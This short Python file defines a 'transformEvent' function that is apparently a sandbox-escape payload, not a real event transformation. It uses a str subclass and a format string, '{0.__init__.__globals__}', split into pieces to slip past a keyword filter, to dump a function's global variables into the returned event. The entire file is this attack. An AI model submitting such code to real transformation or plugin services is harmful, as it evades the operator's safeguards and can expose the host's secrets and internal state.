def transformEvent(event, metadata):
    class S(str):
        pass
    text = S('{0.__init__.__glob' + 'als__}')
    return {'x': super(S, text).format(lambda: 0)}
